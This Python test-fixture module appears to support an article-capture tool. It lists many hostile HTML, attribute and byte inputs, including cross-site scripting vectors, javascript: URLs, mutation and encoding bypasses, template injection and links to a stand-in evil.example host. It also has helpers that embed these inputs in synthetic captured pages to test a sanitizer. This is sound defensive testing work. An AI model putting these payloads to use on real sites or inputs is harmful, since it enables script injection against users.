"""Hostile pieces of markup, attribute values and bytes, and the places of a capture where they can stand."""

import json
import re
from collections.abc import Callable, Iterator
from html import escape

from beilin.sources.declaration import Source

WORDS = "石碑立在林中"
CANARY = "window.pwned=1"

PIECES = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script type='math/tex'>\\text{<img src=x onerror=alert(1)>}</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<p onclick=alert(1) onmouseover='x' style='position:fixed' id=p1 class='article-body'>x</p>",
    "<p class='formula note-back embed older' aria-label='返回正文 1'>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='&amp;#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a><a href='\u00a0javascript:alert(1)'>y</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='blob:x'>y</a><a href='intent://x'>z</a>",
    "<a href='//evil.example/x'>x</a><a href='\\\\evil.example'>x</a><a href='http:evil.example'>x</a>",
    "<a href='https://good.example\\@evil.example/'>x</a>",
    "<a href='https://[x'>x</a><a href='https://good.example:99999999/'>y</a><a href='https://'>z</a>",
    "<a href='#\"><script>alert(1)</script>'>x</a>",
    "<a href='#p1'>x</a><p id=p1>y</p><a name='\"><script>'>z</a>",
    "<a href='#&quot;&gt;&lt;script&gt;' id='&quot;&gt;&lt;script&gt;'><sup>[1]</sup></a>",
    "<a href='https://x.example/#_ftn1'><sup onclick=alert(1)>[1]</sup></a><p>[1] <script>alert(1)</script>",
    "<a href='x' target=_top ping=//evil.example download>x</a>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe><frame src=x><frameset><frame src=y></frameset>",
    "<iframe><img src=x onerror=alert(1)></iframe><iframe><!--</iframe><img src=x onerror=alert(1)>-->",
    "<object data=//evil.example><param name=x><embed src=//evil.example></object>",
    "<video src=//evil.example poster=x onplay=1><source src=x></video><audio src=javascript:1></audio>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button formaction=x>b</button></form>",
    "<form id=x><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><p></textarea><img src=x onerror=alert(1)></textarea>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//x>",
    "<style>@import '//evil.example';</style><style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/><image href=//evil.example /><set to=alert(1)></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><foreignObject><math><mi><style></mi><img src=x onerror=alert(1)></style></math></foreignObject></svg>",
    "<svg><title><style></title><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
    "<svg><script>alert(1)</script><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><text>&lt;img src=x onerror=alert(1)&gt;</text></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math><math><maction actiontype=statusline xlink:href=javascript:1>x",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation encoding='application/x-tex'><img src=x onerror=alert(1)>\\href{javascript:alert(1)}{x}",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>",
    "<noembed><style></noembed><img src=x onerror=alert(1)></style>",
    "<xmp><script>alert(1)</script></xmp>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>--><!--x--!><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> --><!---><img src=x onerror=alert(1)>--><!-->",
    "<![CDATA[<script>alert(1)</script>]]><?php <script>alert(1)</script> ?><!ELEMENT x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><img src=x onerror=alert(1)><![endif]>",
    "<p title='<script>alert(1)</script>'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<pre data-lang='\"onload=1'><code class='language-x\" onload=1'>a<br>b<script>alert(1)</script></code></pre>",
    "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    "<span data-formula='</span><script>alert(1)</script>'>x</span>",
    "<span data-formula='\\text{</math><img src=x onerror=alert(1)>}\\href{javascript:alert(1)}{y}'>x</span>",
    "<span class=katex><annotation encoding='application/x-tex'>\\unicode{x3c}script\\unicode{x3e}</annotation></span>",
    "<mp-common-videosnap data-nickname='<script>' data-desc='\"><script>alert(1)</script>'></mp-common-videosnap>",
    "<mp-common-miniprogram data-miniprogram-title='<img src=x onerror=1>'></mp-common-miniprogram>",
    "<img alt='\"><script>alert(1)</script>' data-src='https://pic.example/\"><script>.png' src=x>",
    "<img src='https://pic.example/x.png' srcset='javascript:1 1x' longdesc=javascript:1 usemap=#m>",
    "<figure><img src=https://pic.example/x.png><figcaption><script>1</script><b onclick=1>c</b></figcaption>",
    "<table background=//evil.example><tr><td colspan='1 onload=x' rowspan=\"2'>\">a<td>b<tr><td>c<td>d</table>",
    "<table><caption><style></caption><img src=x onerror=alert(1)></style></table><table><a href=javascript:1><tr>",
    "<ol start='1 onload=x'><li value=x>a</ol><ul><li><script>alert(1)</script>b</ul>",
    "<blockquote cite=javascript:1><q cite=javascript:1>x</q></blockquote><ins cite=x datetime=y>z</ins>",
    "<ruby onclick=1>漢<rp>(</rp><rt><script>alert(1)</script>han</rt></ruby>",
    "<p lang='\"><script>' dir=rtl>x</p><bdo dir=rtl>y</bdo><font face=x color=y>z</font>",
    "<isindex action=x><keygen onfocus=1><dialog open onclick=1>x</dialog><portal src=x></portal>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary>y</details>",
    "<custom-element onclick=1 is=x><slot name=x>y</slot></custom-element><output_dir onclick=1>",
    "<b><p><i></b><table><a href=javascript:1><tr><a href=x><td>y",
    "<a><b><a><b><p></a><table><td></b><a></table></p></a><i></b><nobr><nobr><form><form>",
    "</body></html><script>alert(1)</script>",
    "</div></div></div></section></article></main><script>alert(1)</script>",
    "\ufeff\u202e<script>alert(1)</script>\u2066",
    "a\u2028<script>alert(1)</script>\u2029b\u0085c",
    "\u202e\u2067x\u200b\u2060y\u061c</p><p>\u200f",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [x]: javascript:alert(1)",
    '[x](https://a.example "\\"><script>alert(1)</script>") ![a"onerror=1](https://a.example/x.png)',
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```\n\n[^1]\n\n[^1]: <script>alert(1)</script>',
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>{% endraw %}${7*7}#{7*7}",
    "a\x00b\x08c\x0bd\x1be",
    "a&#0;b&#xD800;c&#x110000;d&#x80;e&#x202e;f&#xfdd0;g",
)

VALUES = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "` onerror=alert(1) `",
    "</span></a></p></figcaption><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "JAVASCRIPT&colon;alert(1)//https://good.example/",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "https://evil.example/\"onclick='alert(1)'<b>",
    "https://evil.example\\@good.example/ x\u2028y",
    "//evil.example/x",
    "\\text{<img src=x onerror=alert(1)>}",
    "1 onload=alert(1)",
    "\x00\x08\u202e\u2066\u2028\ufffe",
    "{{ 7*7 }}{% x %}",
    "-" * 500 + "<" * 500,
    "]]>--!><!--",
    "[1] ①",
)

ATTRIBUTES = (
    "<mp-common-videosnap data-nickname={0} data-desc={0} data-url={0}></mp-common-videosnap>",
    "<mp-common-profile data-nickname={0} data-signature={0}></mp-common-profile>",
    "<mp-common-miniprogram data-miniprogram-title={0} data-miniprogram-nickname={0} data-miniprogram-path={0}>"
    "</mp-common-miniprogram>",
    "<qqmusic music_name={0} singer={0} audiourl={0}></qqmusic><mpvoice name={0} author={0} src={0}></mpvoice>",
    "<mp-common-vote data-title={0}>{1}</mp-common-vote><mp-common-product data-name={0}></mp-common-product>",
    "<iframe src={0} data-src={0} title={0} name={0} data-cover={0}></iframe>",
    "<video src={0} poster={0} title={0}><source src={0}></video><audio data-src={0} title={0}></audio>",
    "<object data={0} name={0}></object><embed src={0} name={0}>",
    "<img src={0} data-src={0} data-original={0} srcset={0} alt={0} title={0} data-w={0} data-ratio={0} width={0}>",
    "<figure><a href={0} data-caption={0} title={0}><img src=https://pic.example/a.png alt={0}></a></figure>",
    "<a href={0} title={0} rel={0} class={0}>{1}</a><a name={0} id={0}>{1}</a><a href=#x{0}>{1}</a>",
    "<span data-formula={0} data-tex={0}>{1}</span><time datetime={0} pudate={0}>{1}</time>",
    "<ol start={0} type={0}><li value={0}>{1}</ol><table><tr><td colspan={0} rowspan={0} headers={0}>{1}</table>",
    "<pre data-lang={0} class={0}><code class={0} data-lang={0}>{1}</code></pre>",
    "<h2 id={0} class={0} style={0}>{1}</h2><p lang={0} dir={0} class={0} style={0}>{1}</p>",
    "<blockquote cite={0} class=twitter-tweet><a href={0}>{1}</a></blockquote><abbr title={0}>{1}</abbr>",
)

BYTES = (
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    b"\xe0\x80\xbcscript\xe0\x80\xbe",
    b"\xed\xa0\x80\xed\xb0\x80<script>alert(1)</script>\xed\xbf\xbf",
    b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    b"\xfe\xff\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
    b"\x1b$B<script>alert(1)</script>\x1b(B",
    b"\x8f\xbc\xbc<img src=x onerror=alert(1)>\x81",
    b"<a href='java\x00script:alert(1)'>x</a><scr\x00ipt>alert(1)</scr\x00ipt>",
    b"<img src=x onerror=alert(1)\xc2>\xe7\xa2",
    bytes(range(256)),
)

FRONT_MATTER = (
    "title author from tags source date id aliases lang description summary categories source_url url editor "
    "translator draft slug permalink published captured kind account"
).split()

_COMPOUND = re.compile(r"(?P<tag>[a-z][\w-]*)?(?P<rest>(?:[#.][\w-]+|\[[^\]]*\]|:not\([^)]*\))*)")
_PART = re.compile(
    r"#(?P<id>[\w-]+)|\.(?P<name>[\w-]+)|\[(?P<key>[\w-]+)(?:[~^*|$]?=['\"]?(?P<value>[^\]'\"]*)['\"]?)?\]"
)
_VOID = ("img", "br", "hr")
_SPOILER = "<div class=su-spoiler><div class=su-spoiler-content><strong>%s</strong><a href=/x>{}</a></div></div>"
INTRICATE = {
    "div:has(+ div > time[datetime]) li:first-child": "<div><ul><li>{}</li></ul></div>"
    "<div><time datetime=2020-01-01>x</time></div>",
    "figure > br + figcaption > cite": "<figure><img src=https://pic.example/a.png><br><figcaption><cite>{}</cite>"
    "</figcaption></figure>",
    "div.su-spoiler-content strong:lexbor-contains('作者') + a": _SPOILER % "作者",
    "div.su-spoiler-content strong:lexbor-contains('主题归类') + a": _SPOILER % "主题归类",
}
"""Selectors that say more than an element can be written from, each with an element that they select."""
SLOTS = ("content", "captions", "credits", "title", "authors", "account", "published", "tags", "dek")
"""Fields of a declaration whose selectors name elements that are read."""


def written(selector: str, inside: str) -> str:
    """Markup that `selector` selects, with `inside` in the selected element."""
    if selector in INTRICATE:
        return INTRICATE[selector].replace("{}", inside)
    before = ""
    elements: list[str] = []
    combinator = " "
    for word in re.findall(r"[>+~]|(?:\[[^\]]*\]|\([^)]*\)|[^\s>+~\[(])+", selector):
        if word in (">", "+", "~"):
            combinator = word
            continue
        match = _COMPOUND.fullmatch(word)
        assert match, f"no element can be written from {selector!r}; write one in INTRICATE"
        if combinator in ("+", "~"):
            before = _element(elements.pop(), "")
        elements.append(word)
        combinator = " "
    markup = before + _element(elements[-1], inside)
    for word in reversed(elements[:-1]):
        markup = _element(word, markup)
    return markup


def _element(compound: str, inside: str) -> str:
    match = _COMPOUND.fullmatch(compound)
    assert match
    tag = match["tag"] or "div"
    attributes: dict[str, str] = {}
    for part in _PART.finditer(re.sub(r":not\([^)]*\)", "", match["rest"])):
        if part["id"]:
            attributes["id"] = part["id"]
        elif part["name"]:
            attributes["class"] = f"{attributes.get('class', '')} {part['name']}".strip()
        else:
            attributes[part["key"]] = part["value"] or "x"
    start = f"<{tag}{''.join(f' {key}={chr(34)}{escape(value)}{chr(34)}' for key, value in attributes.items())}>"
    return start + inside if tag in _VOID else f"{start}{inside}</{tag}>"


def slots(source: Source) -> Iterator[tuple[str, str]]:
    """Every selector of `source` that names an element which is read, with the field that names it."""
    for field in SLOTS:
        for selector in getattr(source, field, ()):
            yield field, selector


def page_of(source: Source, selector: str, piece: str) -> str:
    """A body of the outlet with `piece` where `selector` reaches: inside its article, and after a picture."""
    picture = "<figure><img src=https://pic.example/a.png alt=碑></figure>"
    if selector in source.content:
        return written(selector, f"<p>{WORDS}</p>{picture}<p>{piece}</p>{piece}<p>{WORDS}</p>")
    inside = f"<p>{WORDS}</p>{picture}{written(selector, piece)}<p>{WORDS}</p>"
    return written(source.content[0], inside) if source.content else inside


def quoted(value: str) -> str:
    """`value` as a value of YAML, whatever it holds."""
    return json.dumps(value)


def attribute(value: str) -> str:
    """`value` as a quoted attribute value."""
    return '"' + escape(value) + '"'


def wrappers(address: str) -> dict[str, Callable[[str], str]]:
    """What capture tools write around a body that they found at `address`, by name."""
    return {
        "post": lambda body: (
            f'---\ntitle: "题"\ndate: 2024-01-01T00:00:00Z\n---\n题 by 号\n------\n<div>{body}</div>  \n<hr>\n'
            f'<a href="{address}",target="_blank" rel="noopener noreferrer">原文链接</a>\n'
        ),
        "feed": lambda body: (
            f"---\nlayout: post\ntitle: 题\nfrom: {address}\ntags: [ 台 ]\n---\n<!--NaN-->\n"
            f"[题]({address})\n------\n\n<div>\n{body}\n</div>\n"
        ),
        "stamp": lambda body: f"---\ntitle: 题\nfrom: {address}\n---\n<!--1700000000000-->\n<div>{body}</div>\n",
        "page": lambda body: (
            f"<!doctype html><html><head><title>题</title><link rel=canonical href='{address}'>"
            f"<meta property=og:url content='{address}'></head><body>{body}</body></html>"
        ),
        "front matter": lambda body: f"---\ntitle: 题\nfrom: {address}\n---\n<article><div>{body}</div></article>\n",
        "fragment": lambda body: f"<div>{body}</div>",
        "markdown": lambda body: f"# 题\n\n**段**\n\n{body}\n\n尾\n",
        "text": lambda body: f"题\n\n2024年1月1日 10:00\n\n{body}\n\n尾\n",
    }
